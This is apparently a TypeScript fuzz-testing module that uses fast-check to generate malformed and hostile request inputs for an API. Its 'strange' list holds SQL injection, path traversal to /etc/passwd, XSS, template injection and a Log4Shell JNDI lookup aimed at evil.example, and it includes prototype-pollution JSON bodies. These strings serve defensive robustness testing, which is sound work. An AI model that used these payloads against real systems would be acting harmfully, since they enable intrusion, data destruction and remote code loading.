import fc from 'fast-check';
import { type Field, type Kind, kinds } from './schema.ts';

/* Generators of attacks. The seed is fixed, so that failures repeat. */

/** Number of runs per family; a failure names its seed and smallest input. */
export const runs = (numRuns: number): fc.Parameters<unknown> => ({ seed: 20_261_201, numRuns });

/**
 * Deals `count` attacks to the n-th call. All calls share the code that reads bodies, so each call meets only some of
 * the attacks, and each attack only some of the calls.
 */
export const dealt = <T>(attacks: readonly T[], n: number, count: number): readonly T[] =>
  attacks.map((_, at) => attacks[(n * count + at) % attacks.length] as T).slice(0, count);

/** The rows of a table of calls, numbered for `dealt`. */
export const numbered = <T extends readonly unknown[]>(calls: readonly T[]): [...T, n: number][] =>
  calls.map((call, n) => [...call, n]);

const MEGABYTE = 1024 * 1024;

/** Keys that JSON.parse accepts but every call must reject as a broken body. */
const poisoned = /__proto__|constructor/;
const json = fc.jsonValue({ maxDepth: 3 }).filter((value) => !poisoned.test(JSON.stringify(value)));

const oddIntegers = [0, -0, -1, 2 ** 31, 2 ** 53, -(2 ** 63), 1e21, 1e300];

const ofKind: Record<Kind, fc.Arbitrary<unknown>> = {
  absent: fc.constant(undefined),
  null: fc.constant(null),
  boolean: fc.boolean(),
  integer: fc.oneof(fc.integer(), fc.constantFrom(...oddIntegers)),
  fraction: fc.double({ noInteger: true, noNaN: true, noDefaultInfinity: true }),
  string: fc.string({ unit: 'binary' }),
  array: fc.array(json, { maxLength: 5 }),
  object: fc.dictionary(fc.string(), json).filter((value) => !poisoned.test(JSON.stringify(value))),
};

const wrongValue = ({ takes, values, inner }: Field): fc.Arbitrary<unknown> => {
  const wrong = kinds.filter((kind) => !takes.has(kind)).map((kind) => ofKind[kind]);
  if (values) wrong.push(ofKind.string.filter((value) => !values.includes(value)));
  if (inner.length > 0) wrong.push(wrongFields(inner).map((value) => (takes.has('array') ? [value] : value)));
  return fc.oneof(...wrong);
};

/** Gives at least one of the fields a value of a kind that it cannot take, or leaves a required one out. */
export const wrongFields = (fields: readonly Field[]): fc.Arbitrary<Record<string, unknown>> =>
  fc
    .subarray([...fields], { minLength: 1 })
    .chain((chosen) => fc.record(Object.fromEntries(chosen.map((field) => [field.name, wrongValue(field)]))));

/** Characters that no text may contain: control characters, halves of a surrogate pair, overrides of the direction. */
const forbiddenMarks = ['\0', '\x07', '\x1b[2J', '\x7f', '\x85', '\ud800', '\udfff', '\u202e', '\u2066'];

/** A text like `valid` with a forbidden character in it. */
export const spoilt = (valid: string): fc.Arbitrary<string> =>
  fc
    .tuple(fc.constantFrom(...forbiddenMarks), fc.nat(valid.length))
    // The mark is not at an end, where white space and similar characters are trimmed.
    .map(([mark, at]) => `${valid.slice(0, at)}x${mark}x${valid.slice(at)}`);

/** Strange texts that no record has. They must not break anything. */
export const strange = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    "' OR 1=1 --",
    '"; DROP TABLE accounts; --',
    '$1',
    '%',
    '_',
    '\\',
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    'file:///etc/passwd',
    '<script>alert(1)</script>',
    '{{7*7}}',
    '\u0024{jndi:ldap://evil.example/a}',
    'NaN',
    'Infinity',
    '1e999',
    '-1',
    '0x10',
    '１２３',
    'null',
    'undefined',
    'true',
    '[object Object]',
    '__proto__',
    'constructor',
    'toString',
    '𠮷'.repeat(50),
    '👨‍👩‍👧‍👦',
    'Z̸̛̝a̷l̵g̶o̷',
    '\ufeffx',
    'İstanbul',
    'ﷺ'.repeat(60),
  ),
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: 'binary' }),
);

/** Texts that resemble page numbers, but are no whole numbers. */
export const noNumbers = [
  '',
  ' ',
  '0',
  '-1',
  '+1',
  '1.0',
  '1e1',
  '0x10',
  '1 ',
  ' 1',
  '１',
  'NaN',
  'Infinity',
  'null',
  'true',
  '[]',
  '1,2',
  '9'.repeat(10),
  '9'.repeat(400),
  '1\0',
] as const;

/** Pieces of addresses, properly encoded, wrongly encoded, or not at all. */
export const rawAddress = fc
  .array(
    fc.constantFrom(
      ...['%00', '%0a', '%0d%0a', '%20', '%ff', '%c0%80', '%c0%ae', '%ed%a0%80', '%f4%90%80%80', '%zz', '%'],
      ...['%2f', '%5c', '%2e%2e', '..', '.', ';', '+', '!', "'", '(', '*', ':', '@', '~', ',', '-', 'a', '1'],
      ...['%E6%80%A5', '%E6%80', 'TPE-CPR-0001', '__proto__', 'constructor'],
    ),
    { minLength: 1, maxLength: 8 },
  )
  .map((pieces) => pieces.join(''));

/** Pieces of query strings, properly encoded, wrongly encoded, or not at all. */
export const rawQuery = (names: readonly string[]): fc.Arbitrary<string> =>
  fc
    .array(
      fc.oneof(rawAddress, fc.constantFrom('&', '=', '==', '&&', '[]', '[0]', '[a][b]', '?', ...names)),
      {
        maxLength: 12,
      },
    )
    .map((pieces) => pieces.join(''));

/** Bodies that are too large for any call that takes JSON. */
export const tooLarge: readonly [string, string][] = [
  ['a text of a megabyte', JSON.stringify({ code: 'x'.repeat(MEGABYTE), account: 'x' })],
  ['a megabyte of white space', `${' '.repeat(MEGABYTE)}{}`],
  ['objects within objects', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`],
];

/** Content types that no call takes for JSON or for a form. */
export const otherTypes: readonly string[] = [
  'text/plain',
  'text/plain; charset=utf-8',
  'text/html',
  'text/csv',
  'application/x-www-form-urlencoded',
  'application/xml',
  'application/octet-stream',
  'application/jsonp',
  'application/json-patch+json',
  'application/json/x',
  'image/png',
  'multipart/mixed; boundary=x',
  'text/plain, application/json',
  'json',
  '*/*',
  ';',
  'application/',
  '急救',
  `application/${'x'.repeat(5000)}`,
];

/** JSON that is no object, or an empty one. */
export const documents: readonly string[] = [
  '[]',
  '[{}]',
  '"code"',
  '""',
  '0',
  '-1',
  '1e999',
  'true',
  'false',
  'null',
  '{}',
  '',
  '\ufeff{}',
];

/** Bodies that are no JSON. */
export const brokenJson: readonly [string, string | Buffer][] = [
  ['an open brace', '{'],
  ['a cut value', '{"code":'],
  ['a cut text', '{"code":"TPE'],
  ['a missing brace', '{"account":"A","password":"B"'],
  ['one brace too many', '{"code":"A"}}'],
  ['single quotes', "{'code':'A'}"],
  ['no quotes', '{code:1}'],
  ['a comma at the end', '{"code":"A",}'],
  ['a comment', '{"code":"A"/**/}'],
  ['a form', 'code=A&account=B'],
  ['NaN', '{"code":NaN}'],
  ['undefined', 'undefined'],
  ['a hexadecimal number', '{"code":0x10}'],
  ['a zero in front', '{"code":012}'],
  ['a raw line break in a text', '{"code":"A\nB"}'],
  ['a NUL', '\0'],
  ['a NUL after JSON', '{}\0'],
  ['UTF-16', Buffer.from('{"code":"A"}', 'utf16le')],
  ['gzip', Buffer.from('1f8b0800000000000003ab5602000000ffff', 'hex')],
  ['two documents', '{} {}'],
  ['brackets without end', '['.repeat(100_000)],
  ['a poisoned prototype', '{"__proto__":{"state":true}}'],
  ['a poisoned prototype, escaped', '{"\\u005f_proto__":{"state":true}}'],
  ['a poisoned constructor', '{"constructor":{"prototype":{"state":true}}}'],
];

const deep = (open: string, close: string, depth: number) => `${open.repeat(depth)}1${close.repeat(depth)}`;
const many = Array.from({ length: 20_000 }, (_, n) => `"${n}":0`).join();

/** Huge or deeply nested JSON values for a field, still small enough to be read, each with its kind. */
export const monsters: readonly [Kind, string][] = [
  ['array', deep('[', ']', 100_000)],
  ['object', deep('{"":', '}', 40_000)],
  ['array', `[${'0,'.repeat(99_999)}0]`],
  ['object', `{${many}}`],
  // Beyond all numbers: none that a field could take.
  ['absent', '1e999'],
  ['absent', '9'.repeat(1000)],
];
